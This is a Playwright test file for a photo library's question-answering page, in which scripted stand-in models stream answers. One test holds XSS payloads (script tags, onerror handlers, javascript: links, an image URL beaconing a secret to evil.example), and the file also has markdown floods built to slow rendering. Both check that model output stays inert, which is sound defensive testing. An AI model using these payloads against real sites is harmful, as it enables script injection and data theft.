"""The page that asks the library, and the days behind its answers: a real browser, a real server, scripted models."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.serving.conftest import PASSWORD
from tests.serving.pictured_site import ask, fits, ollama, pictured, say, shoot, site
from tests.serving.test_web import CHROMIUM, Watched, browser, serve
from tests.stand_ins.http_server import refusing_url
from tests.stand_ins.ollama import EMBED_MODEL, Drop, Fail, OllamaStandIn, Say
from tests.stand_ins.openrouter import KEY, OpenRouterStandIn

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
__all__ = ["browser", "ollama", "site"]  # fixtures
WIDTHS = pytest.mark.parametrize("width", [390, 1440])
COUNT = {"sql": "select media_type, count(*) as photos from v_assets group by 1"}


@WIDTHS
def test_question_shows_its_tools_while_they_run_and_what_the_answer_cites(
    browser: Browser, site: str, ollama: OllamaStandIn, width: int
) -> None:
    ollama.script.clear()
    ollama.script += [
        Say(["Let me look. "], calls=[("query_catalog", COUNT), ("search_summaries", {"query": "bee"})]),
        Say(calls=[("find_photos", {"query": "date:2025-07"})], wait_first_s=1.0),
        Say(["You have **six** photos: ", "[photo 2] and [photo 5], and a bee [summary 1].\n\n",
             "| kind | photos |\n|---|---|\n| photo | 6 |\n\n- one\n- two"], wait_first_s=1.0, wait_each_s=0.2),
    ]  # fmt: skip
    watched = Watched(browser, site, width, 844 if width < 400 else 900)
    page = watched.log_in("/ask")
    page.wait_for_selector("#empty h2")
    shoot(page, f"ask-empty-{width}")
    fits(page)
    ask(page, "How many photos are there?")
    page.wait_for_selector(".tool[data-state=ended]:has-text('query_catalog')")
    assert page.inner_text(".composer button") == "Stop"
    assert page.get_attribute(".answer", "aria-busy") == "true"
    page.wait_for_selector(".words strong:text-is('six')")
    page.wait_for_selector(".answer:not([aria-busy])")
    page.wait_for_selector(".shots .tile.ready >> nth=1")
    assert page.locator(".cited > .shots .tile").count() == 2
    assert page.locator(".tool").count() == 3 and page.locator(".tool[open]").count() == 0
    assert COUNT["sql"] in page.inner_text(".tool summary >> nth=0")
    page.click(".tool >> nth=0")
    assert page.inner_text(".tool .sql") == COUNT["sql"]
    assert "photo | 6" in page.inner_text(".tool .result >> nth=0")
    page.click(".cite[data-kind=summary]")
    page.wait_for_selector(".day[open] summary:has-text('June 1, 2025')")  # it is fetched when it is opened
    assert "June 1, 2025 with Ada" in page.inner_text(".day summary") and "stung by a bee" in page.inner_text(".day p")
    page.click(".found > summary")
    page.wait_for_selector(".found .tile.ready >> nth=3")
    assert page.locator(".words table td").all_inner_texts() == ["photo", "6"]
    assert page.url.split("?")[1].startswith("conversation=")
    shoot(page, f"ask-answer-{width}")
    fits(page)
    page.click(".cited > .shots .tile >> nth=1")
    page.wait_for_selector("#viewer[open]")
    assert page.url.endswith("/view/5") and page.inner_text(".tools .name") == "4.jpg"
    page.keyboard.press("ArrowLeft")
    page.wait_for_url("**/view/2")
    page.click(".close")
    page.wait_for_url("**/ask?conversation=*")
    page.reload()
    page.wait_for_selector(".words strong:text-is('six')")
    page.wait_for_selector(".cited > .shots .tile.ready >> nth=1")
    assert page.inner_text(".asked").endswith("How many photos are there?") and page.locator(".tool").count() == 3
    watched.was_clean()


def test_conversation_goes_on_and_earlier_ones_are_listed(browser: Browser, site: str, ollama: OllamaStandIn) -> None:
    ollama.script.clear()
    ollama.script += [Say(["First."]), Say(["Second."]), Say(["Other."])]
    watched = Watched(browser, site)
    page = watched.log_in("/ask")
    say(page, "What was it?")
    say(page, "And then?")
    assert [one["content"] for one in ollama.bodies("/api/chat")[-1]["messages"]][-3:] == [
        "What was it?", "First.", "And then?",
    ]  # fmt: skip
    page.click("#new")
    page.wait_for_selector("#empty h2")
    say(page, "Something else")
    page.click(".past li a:has-text('What was it?')")
    page.wait_for_selector(".answer:has-text('Second.')")
    assert page.locator(".asked").count() == 2 and "Other." not in page.inner_text(".log")
    assert page.inner_text(".past a[aria-current=page]").startswith("What was it?")
    page.go_back()
    page.wait_for_selector(".answer:has-text('Other.')")
    page.on("dialog", lambda dialog: dialog.accept())
    page.hover(".past li:has(a[aria-current=page]:has-text('Something else'))")  # the list is drawn after the answer
    count = page.locator(".past li").count()
    page.click(".past li:has(a[aria-current=page]) .away")
    page.wait_for_selector("#empty h2")
    page.wait_for_function(f"() => document.querySelectorAll('.past li').length === {count - 1}")
    assert page.url.endswith("/ask") and "Something else" not in page.inner_text(".past")
    shoot(page, "ask-forgotten")
    watched.was_clean()


def test_stop_ends_the_models_work_and_nothing_is_kept(browser: Browser, site: str, ollama: OllamaStandIn) -> None:
    ollama.script.clear()
    ollama.script.append(Say([f"word{number} " for number in range(400)], wait_each_s=0.1))
    ollama.cut_off.clear()
    watched = Watched(browser, site)
    page = watched.log_in("/ask")
    page.wait_for_selector("#empty h2")
    ask(page, "Tell me everything")
    page.wait_for_selector(".words:has-text('word3')")
    page.click(".composer button:text-is('Stop')")
    page.wait_for_selector(".answer.lost:has-text('Stopped')")
    assert ollama.cut_off.wait(60), "the model went on"
    assert page.input_value(".composer textarea") == "Tell me everything"
    assert page.locator(".past li:has-text('Tell me everything')").count() == 0
    ollama.script.append(Say(["In short: no."]))
    page.click(".answer.lost button:text-is('Try again')")
    page.wait_for_selector(".answer:not(.lost):has-text('In short')")
    assert page.locator(".lost").count() == 0
    watched.was_clean()


HOSTILE = """<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>

![pixel](https://evil.example/?q=secret) [click](javascript:document.title='owned')
**<b onclick=x>bold</b>** `<i>code</i>`

| <u>a</u> | b |
|---|---|
| <iframe src=//evil.example> | [photo 3] |

# <h1>head
> > > > > > deep
* [x](https://evil.example/a)
```html
<script>alert(1)</script>
"""


def test_hostile_words_of_a_model_stay_words(browser: Browser, site: str, ollama: OllamaStandIn) -> None:
    ollama.script.clear()
    hostile = "<img src=x onerror=\"document.title='owned'\">"
    ollama.script += [Say(calls=[("find_photos", {"query": hostile}), (hostile, {"a": hostile})]),
                      Say([HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)])]  # fmt: skip
    watched = Watched(browser, site)
    page = watched.log_in("/ask")
    say(page, hostile)
    page.wait_for_selector(".shots .tile.ready")
    assert page.locator(".answer script, .answer iframe, .answer u, .answer i, .answer b, .words img").count() == 0
    links = page.eval_on_selector_all(".answer a", "all => all.map((one) => one.getAttribute('href'))")
    assert set(links) == {"/view/3"}
    assert page.title() == "Ask · Darkroom"
    words = page.inner_text(".words")
    assert "<script>document.title" in words and "(https://evil.example/a)" in words
    assert page.inner_text(".words strong") == "<b onclick=x>bold</b>"
    assert page.inner_text(".tool >> nth=1").startswith("<img src=x")
    page.reload()
    page.wait_for_selector(".shots .tile.ready")
    assert page.title() == "Ask · Darkroom" and page.inner_text(".past li a >> nth=0").startswith("<img")
    watched.was_clean()


FLOODS = {
    "stars": "**a " * 9_000,
    "ticks": "`" * 30_000 + "x",
    "brackets": "[photo 1" * 4_000,
    "digits": "[photo " + "1" * 30_000,
    "quotes": ">" * 20_000,
    "pipes": "|" * 9_000 + "\n|" + "-|" * 9_000,
    "spaces": "# " + " " * 18_000 + "x\n|" + " " * 18_000 + "x",
    "lists": "\n".join(" " * depth + "- x" for depth in range(200)),
    "underscores": "_a" * 15_000,
}


@pytest.mark.parametrize("kind", FLOODS)
def test_answer_made_to_be_slow_is_shown_all_the_same(
    browser: Browser, site: str, ollama: OllamaStandIn, kind: str
) -> None:
    ollama.script.clear()
    ollama.script.append(Say([FLOODS[kind], "\n\nthe end"]))
    watched = Watched(browser, site)
    page = watched.log_in("/ask")
    page.wait_for_selector("#empty h2")
    say(page, f"flood of {kind}")
    page.wait_for_selector(".answer:has-text('the end')")
    assert page.locator(".answer.lost").count() == 0
    watched.was_clean()


@pytest.mark.parametrize("failure", [Drop(["half an "]), Fail(500, "broken")], ids=["drop", "500"])
def test_answer_that_breaks_off_says_so_and_offers_the_days(
    browser: Browser, site: str, ollama: OllamaStandIn, failure: Drop | Fail
) -> None:
    ollama.script.clear()
    ollama.script += [Say(calls=[("find_photos", {})]), failure]
    watched = Watched(browser, site)
    page = watched.log_in("/ask")
    ask(page, "When did a bee sting Ada?")
    page.wait_for_selector(".answer.lost .problem")
    page.click(".answer a:has-text('daily summaries')")
    page.wait_for_selector(".card[data-id]")
    assert page.get_attribute(".card[data-id] >> nth=0", "data-id") == "1"
    watched.was_clean()


@WIDTHS
def test_without_a_model_the_page_says_what_to_start_and_offers_the_days(
    browser: Browser, tmp_path: Path, width: int
) -> None:
    installation = pictured(tmp_path, ollama_primary_url=refusing_url())
    for address in serve(installation):
        watched = Watched(browser, address, width)
        page = watched.log_in("/ask")
        page.wait_for_selector("#trouble:not([hidden])")
        assert all(words in page.inner_text("#trouble") for words in ("Start Ollama", "reload this page"))
        fits(page)
        ask(page, "Who was stung?")
        page.wait_for_selector(".answer.lost .problem")
        assert "Start Ollama" in page.inner_text(".answer .problem")
        shoot(page, f"ask-503-{width}")
        fits(page)
        page.click(".answer a:has-text('daily summaries')")
        page.wait_for_url("**/days?q=Who*")
        page.wait_for_selector(".card[data-id]")
        watched.was_clean()
    installation.lake.close()


def test_model_that_is_missing_is_fetched_from_the_page(browser: Browser, tmp_path: Path) -> None:
    with OllamaStandIn([Say(["Here I am."])], models=[EMBED_MODEL]).running() as bare:
        installation = pictured(tmp_path, ollama_primary_url=bare.url)
        for address in serve(installation):
            watched = Watched(browser, address, 390)
            page = watched.log_in("/ask")
            page.wait_for_selector("#trouble:has-text('has not been downloaded')")
            shoot(page, "ask-fetch-390")
            fits(page)
            page.click("#trouble button:has-text('Download')")
            page.wait_for_selector("#trouble", state="hidden")
            say(page, "Are you there?")
            page.wait_for_selector(".answer:has-text('Here I am.')")
            assert len(bare.bodies("/api/pull")) == 1, "it was fetched more than once"
            watched.was_clean()
        installation.lake.close()


@WIDTHS
def test_days_are_found_by_meaning_contact_and_date(browser: Browser, site: str, width: int) -> None:
    watched = Watched(browser, site, width)
    page = watched.log_in("/days")
    page.wait_for_selector(".card[data-id]")
    assert page.locator(".card[data-id]").count() == 4
    page.fill("[name=q]", "vehicle trouble")
    page.keyboard.press("Enter")
    page.wait_for_url("**/days?q=vehicle*")
    page.wait_for_selector(".card[data-id]")
    assert page.get_attribute(".card[data-id] >> nth=0", "data-id") == "2"
    shoot(page, f"days-{width}")
    fits(page)
    page.fill("[name=contact]", "Bruno")
    page.fill("[name=date_to]", "2025-07-31")
    page.click(".days-form button")
    page.wait_for_url("**contact=Bruno**")
    page.wait_for_selector(".card[data-id]")
    assert page.locator(".card[data-id]").count() == 1 and "risotto" in page.inner_text(".card[data-id]")
    page.click(".card a:text-is('Photos of that day')")
    page.wait_for_selector("#results .tile.ready")
    assert page.locator("#results .tile").count() == 1
    page.go_back()
    page.click(".card a:text-is('Ask about it')")
    page.wait_for_selector("#empty h2")
    assert "Bruno" in page.input_value(".composer textarea")
    page.goto(f"{site}/days?q=x&contact=Nobody")
    page.wait_for_selector(".empty")
    watched.was_clean()


def test_viewer_account_is_told_that_only_owners_ask(browser: Browser, site: str) -> None:
    watched = Watched(browser, site)
    page = watched.page
    page.goto(f"{site}/ask")
    page.fill("[name=username]", "grace")
    page.fill("[name=password]", PASSWORD)
    page.click("button.primary")
    for address in ("/ask", "/days"):
        page.wait_for_selector("h2:text-is('Only for the owner')")
        page.goto(site + address)
        page.wait_for_selector("h2:text-is('Only for the owner')")
        assert page.locator("nav a:text-is('Ask')").count() == 0
    watched.was_clean()


def test_openrouter_is_offered_where_it_is_set_up_and_a_local_talk_stays_local(
    browser: Browser, tmp_path: Path, ollama: OllamaStandIn
) -> None:
    ollama.script.clear()
    ollama.script.append(Say(["At home."]))
    with OpenRouterStandIn([Say(["From afar."])]).running() as remote:
        installation = pictured(
            tmp_path, ollama_primary_url=ollama.url, openrouter_api_key=KEY, openrouter_base_url=remote.url
        )
        for address in serve(installation):
            watched = Watched(browser, address)
            page = watched.log_in("/ask")
            page.wait_for_selector(".model select")
            say(page, "Here?")
            assert page.locator(".model optgroup >> nth=1").is_disabled()
            page.click("#new")
            page.wait_for_selector("#empty h2")
            page.select_option(".model select", '{"backend":"hybrid","model":""}')
            page.wait_for_selector("text=pictures never")
            shoot(page, "ask-hybrid-1440")
            say(page, "There?")
            assert "through OpenRouter" in page.inner_text(".answer .by")
            page.reload()
            page.wait_for_selector(".answer:has-text('From afar.')")
            page.wait_for_function("() => document.querySelector('.model select').value.includes('hybrid')")
            watched.was_clean()
        installation.lake.close()


def test_what_was_left_out_or_not_answered_is_said(browser: Browser, site: str, ollama: OllamaStandIn) -> None:
    ollama.script.clear()
    ollama.script += [Say(["x" * 41_000]), Say(), Say()]
    ollama.script += [Say(calls=[("find_photos", {"query": str(number)})]) for number in range(6)] + [Say(["Enough."])]
    watched = Watched(browser, site)
    page = watched.log_in("/ask")
    say(page, "Too long")
    page.wait_for_selector(".answer .aside:has-text('too long')")
    say(page, "Nothing")
    page.wait_for_selector(".answer:last-child .aside")
    say(page, "On and on")
    page.wait_for_selector(".answer:last-child .aside:has-text('may be incomplete')")
    assert page.locator(".answer:last-child .tool").count() == 6
    fits(page)
    watched.was_clean()


def test_everything_can_be_done_from_the_keyboard(browser: Browser, site: str, ollama: OllamaStandIn) -> None:
    ollama.script.clear()
    ollama.script += [Say(calls=[("query_catalog", COUNT)]), Say(["One [photo 1]."])]
    watched = Watched(browser, site)
    page = watched.log_in("/ask")
    page.wait_for_selector("#empty h2")
    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    page.keyboard.press("Enter")
    page.wait_for_selector(".answer .shots .tile.ready")
    assert page.inner_text(".asked").endswith("first line\nsecond line")
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.className") == "tile ready"
    page.keyboard.press("Enter")
    page.wait_for_selector("#viewer[open]")
    page.keyboard.press("Escape")
    page.wait_for_selector("#viewer:not([open])", state="attached")
    assert page.evaluate("document.activeElement.className") == "tile ready"
    page.focus(".tool > summary")
    page.keyboard.press("Enter")
    page.wait_for_selector(".tool[open] .sql")
    watched.was_clean()


def test_answer_that_ends_behind_an_open_photo_is_there_when_it_is_closed(
    browser: Browser, site: str, ollama: OllamaStandIn
) -> None:
    ollama.script.clear()
    ollama.script += [Say(["See [photo 1] and [photo 2]. "] + ["on "] * 12 + ["the end."], wait_each_s=0.1)]
    ollama.script += [Say(["And [photo 3]."] + [" more"] * 12, wait_each_s=0.1)]
    watched = Watched(browser, site)
    page = watched.log_in("/ask")
    say(page, "Which two?")
    page.click("#new")
    page.wait_for_selector("#empty h2")
    page.go_back()
    page.wait_for_selector(".cited .tile.ready >> nth=1")
    ask(page, "And then?")
    page.wait_for_selector(".answer:last-child .words")
    page.click(".cited .tile >> nth=0")
    page.wait_for_selector("#viewer[open]")
    page.wait_for_selector(".answer:last-child:not([aria-busy]) .cited", state="attached")
    assert page.url.endswith("/view/1")
    page.click(".close")
    page.wait_for_url("**/ask?conversation=*")
    assert page.locator(".answer").count() == 2
    watched.was_clean()
